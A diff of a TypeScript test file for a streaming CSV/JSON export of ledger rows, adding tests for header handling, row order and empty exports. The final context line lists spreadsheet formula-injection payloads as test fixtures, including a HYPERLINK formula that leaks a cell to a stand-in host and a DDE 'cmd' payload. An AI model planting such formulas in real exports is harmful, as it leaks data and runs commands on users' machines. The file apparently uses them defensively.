@@ -37,6 +37,37 @@ async function csvOf(rows: ExportStreamRow[]): Promise<{ text: string; records: 
   return { text, records: csvRecords(text) };
 }
 
+async function exported(chunks: ExportStreamRow[][], format: 'csv' | 'json'): Promise<string> {
+  let text = '';
+  for await (const piece of exportStream(chunks[Symbol.iterator](), format)) text += String(piece);
+  return text;
+}
+
+describe('the export over the ledger\'s chunks', () => {
+  const rows = (from: number, count: number) => Array.from({ length: count }, (_, i) => row({ id: String(from + i), ts: T0 + from + i, inputTokens: from + i }));
+  // Chunks as the request log hands them out, an empty one among them.
+  const CHUNKS = [rows(0, 3), [], rows(3, 1), rows(4, 5)];
+
+  it('CSV: one header line, then every row once, in order, whatever the chunks', async () => {
+    const text = await exported(CHUNKS, 'csv');
+    expect(text.split('\n').filter((line) => line.startsWith('time,ts,model'))).toHaveLength(1);
+    expect(text.startsWith('time,ts,model,')).toBe(true);
+    expect(csvRecords(text).map((record) => Number(record['inputTokens']))).toEqual([0, 1, 2, 3, 4, 5, 6, 7, 8]);
+  });
+
+  it('JSON: one array of every row, in order, whatever the chunks', async () => {
+    const parsed = JSON.parse(await exported(CHUNKS, 'json')) as ExportStreamRow[];
+    expect(parsed.map((r) => r.inputTokens)).toEqual([0, 1, 2, 3, 4, 5, 6, 7, 8]);
+  });
+
+  it('an export of nothing is the header alone, or an empty array', async () => {
+    for (const chunks of [[], [[]]]) {
+      expect(await exported(chunks, 'csv')).toBe(`${(await exported([rows(0, 1)], 'csv')).split('\n')[0]}\n`);
+      expect(JSON.parse(await exported(chunks, 'json'))).toEqual([]);
+    }
+  });
+});
+
 describe('the CSV export, opened in a spreadsheet', () => {
   const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"invoice")', '@SUM(A1:A9)', "=cmd|' /C calc'!A0", '+1+1', '-2+3', '\t=1+1', '＝1+1'];
 
